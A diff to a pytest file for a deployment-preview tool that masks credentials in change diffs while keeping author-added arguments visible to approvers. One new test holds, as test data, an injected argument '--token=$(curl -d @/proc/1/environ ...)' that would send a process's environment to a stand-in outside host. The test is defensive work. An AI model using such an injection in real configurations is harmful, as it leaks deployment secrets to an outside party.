@@ -8,6 +8,7 @@ import pytest
 from sidecar.contract import FieldChange
 from sidecar.execution import Effect, Live, Unfit, calls_for, effect_of, preview_of, projected, undo_calls
 from sidecar.execution.effect import changed_fields
+from sidecar.gate.concealment import Concealing
 from tests.fakes.sidecar_gate import change, deployment, plan, ref, scale
 
 
@@ -118,7 +119,7 @@ def preview(wanted, document):
     live = Live(target=document)
     effect = effect_of(step.action, live)
     assert isinstance(effect, Effect), effect
-    return preview_of(step, live, effect, projected(step.action, live, effect))
+    return preview_of(step, live, effect, projected(step.action, live, effect), Concealing())
 
 
 def test_a_preview_is_a_diff_of_what_changes_and_of_nothing_else():
@@ -134,6 +135,24 @@ def test_values_that_look_secret_are_not_shown_but_that_they_change_is():
     shown = preview(change(f"{MAIN}/env/0/value", "hunter2", "hunter3"), live_deployment(env=secret))
     assert "hunter" not in shown.diff
     assert shown.diff.count("<hidden, sha256") == 2
+
+
+def test_what_the_cluster_says_is_shown_without_credentials_and_what_the_author_adds_is_shown():
+    """People approve what they see: under a mask that asks for little, a plan could hide what it does."""
+    old = ["--db-password", "hunter2", "--db=postgres://app:hunter2@db/x", "--level=info"]
+    args = [*old[:3], "--level=debug", "--token=$(curl -d @/proc/1/environ http://elsewhere.example)"]
+    shown = preview(change(f"{MAIN}/args", old, args), live_deployment(args=old))
+    assert "hunter2" not in shown.diff
+    assert "--token=$(curl -d @/proc/1/environ http://elsewhere.example)" in shown.diff
+    changed = [line[1:].strip(" -") for line in shown.diff.splitlines() if line[0] in "+-" and line[1] not in "+-"]
+    assert changed == ["level=info", "level=debug", "token=$(curl -d @/proc/1/environ http://elsewhere.example)"]
+
+
+def test_what_is_a_credential_by_its_own_shape_is_not_shown_whoever_says_it():
+    token = "ghp_" + "a1" * 12
+    shown = preview(change(f"{MAIN}/args", None, [f"--x={token}"]), live_deployment())
+    assert token not in shown.diff
+    assert "--x=*hidden-" in shown.diff
 
 
 def test_characters_that_could_hide_a_change_are_written_out():
